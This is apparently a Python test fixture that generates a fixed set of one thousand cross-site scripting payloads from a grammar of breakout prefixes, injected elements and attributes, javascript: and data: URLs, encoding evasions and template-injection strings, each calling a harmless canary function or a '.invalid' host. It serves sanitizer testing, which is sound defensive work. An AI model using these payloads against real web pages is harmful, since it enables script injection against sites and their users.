# ruff: noqa: E501  (the words of the grammar stand in rows)
"""A thousand strings that try to run in a page, from a small grammar of our own: where one breaks out, what it brings.

Each begins with a mark of its own (``q0042q``), by which it is found again, and calls ``__xss`` if it ever runs, or
asks an address that nobody has. The seed is fixed: the same thousand each time.
"""

import random
import re

NUMBER = 1000
CANARY = "canary.invalid"
MARK = re.compile(r"q\d{4}q")

# How one leaves where one stands: text, an attribute in either quote or none, a comment, a title, a script, a link.
OUT = (
    "", "", ">", '">', "'>", "\">'>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</option>", "</template>",
    "\" ", "' ", "\\\" ", "\\' ", "`", "${", "{{", "{%", "%}", "\x0b\">", "\t'", "/>", "</p></li></ol>", "</svg>", "&quot;>", "&#39;>",
    "%22%3E", "\u2028", "\u202e\">", "＂＞", "\ufeff", "[x](", "![x](", "<", "**", "> ", "- ", "```\n", "    ", "1. ", "<!--", "\\",
)  # fmt: skip
CALLS = (
    "__xss({n})", "window.__xss({n})", "self['__xss']({n})", "top.__xss({n})", "__xss`{n}`", "(__xss)({n})",
    "[{n}].map(__xss)", "setTimeout('__xss({n})')", "Reflect.apply(__xss,0,[{n}])", "\\u005f_xss({n})", "fetch('//{canary}/{n}')",
)  # fmt: skip
ELEMENTS = (
    "<script>{c}</script>", "<ScRiPt>{c}</sCrIpT>", "<script\n>{c}</script\t>", "<script src=//{canary}/{n}.js></script>",
    "<img src=x onerror={q}{c}{q}>", "<img src=x oNeRrOr={q}{c}{q} x", "<image src=x onerror={q}{c}{q}>", "<svg onload={q}{c}{q}>",
    "<svg/onload={q}{c}{q}/>", "<svg><script>{c}</script></svg>", "<svg><a xlink:href={q}javascript:{c}{q}><text>x</text></a></svg>",
    "<svg><animate onbegin={q}{c}{q} attributeName=x dur=1s>", "<svg><set attributeName=href to={q}javascript:{c}{q}>",
    "<math><mtext></p><img src=x onerror={q}{c}{q}></mtext></math>", "<math href={q}javascript:{c}{q}>x</math>",
    "<body onload={q}{c}{q}>", "<iframe src={q}javascript:{c}{q}></iframe>", "<iframe srcdoc={q}<script>{c}</script>{q}></iframe>",
    "<iframe src=//{canary}/{n}></iframe>", "<object data={q}javascript:{c}{q}></object>", "<embed src={q}javascript:{c}{q}>",
    "<link rel=stylesheet href=//{canary}/{n}.css>", "<base href=//{canary}/>", "<meta http-equiv=refresh content={q}0;url=//{canary}/{n}{q}>",
    "<form action={q}javascript:{c}{q}><button>x</button></form>", "<input autofocus onfocus={q}{c}{q}>", "<button formaction={q}javascript:{c}{q}>x</button>",
    "<details open ontoggle={q}{c}{q}>", "<video><source onerror={q}{c}{q}></video>", "<audio src=x onerror={q}{c}{q}>", "<marquee onstart={q}{c}{q}>",
    "<style>@import '//{canary}/{n}.css';</style>", "<style>*{{background:url(//{canary}/{n})}}</style>", "<template><script>{c}</script></template>",
    "<noscript><p title={q}</noscript><img src=x onerror={c}>{q}>", "<a href={q}javascript:{c}{q}>x</a>", "<a href={q}java&#10;script:{c}{q}>x</a>",
    "<a href={q} &#14;javascript:{c}{q}>x</a>", "<a href={q}data:text/html,<script>{c}</script>{q}>x</a>", "<a href={q}vbscript:{c}{q}>x</a>",
    "<p style={q}background:url(//{canary}/{n}){q}>x</p>", "<p onmouseover={q}{c}{q} style=position:fixed;inset:0>x</p>", "<xss tabindex=1 autofocus onfocus={q}{c}{q}>",
)  # fmt: skip
ATTRIBUTES = (
    "onfocus={q}{c}{q} autofocus x=", "onmouseover={q}{c}{q} ", "onerror={q}{c}{q} src=x ", "style={q}x:expression({c}){q} ", "onload={q}{c}{q} ",
    "href={q}javascript:{c}{q} ", "formaction={q}javascript:{c}{q} ", "accesskey=x onclick={q}{c}{q} ", "onanimationstart={q}{c}{q} ",
)  # fmt: skip
WORDS = (
    "[x](javascript:{c})", "[x](JaVaScRiPt:{c})", "[x](<javascript:{c}>)", "[x](java\nscript:{c})", "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](//{canary}/{n}.png)", "[x]: javascript:{c}\n[x]", "<javascript:{c}>", "javascript:{c}", "//{canary}/{n}", "https://{canary}/{n}",
    "{{{{ {n}*{n} }}}}", "{{% import os %}}", "${{{c}}}", "#{{{c}}}", "<%= {c} %>", "'+{c}+'", "\"+{c}+\"", "';{c}//", "\");{c}//", "</script><script>{c}//",
    "%(name)s%n{c}", "\\u003cscript\\u003e{c}\\u003c/script\\u003e", "&lt;script&gt;{c}&lt;/script&gt;", "＜script＞{c}＜/script＞", "+ADw-script+AD4-{c}",
)  # fmt: skip
END = ("", "", "", "<!--", "<x y='", '<a title="', "//", "\\", "<", "</")
QUOTES = ('"', "'", "", "`")


def corpus() -> list[str]:
    """The thousand, each different beyond its mark."""
    draw, made, seen = random.Random(45), [], set()
    while len(made) < NUMBER:
        number = len(made)
        kind = draw.choice((ELEMENTS, ELEMENTS, ATTRIBUTES, WORDS))
        call = draw.choice(CALLS).format(n=number, canary=CANARY)
        told = {"c": call, "n": number, "q": draw.choice(QUOTES), "canary": CANARY}
        shape = (draw.choice(OUT), draw.choice(kind), draw.choice(END), told["q"])
        if shape in seen:
            continue
        seen.add(shape)
        made.append(f"q{number:04d}q{shape[0]}{shape[1].format(**told)}{shape[2]}")
    return made
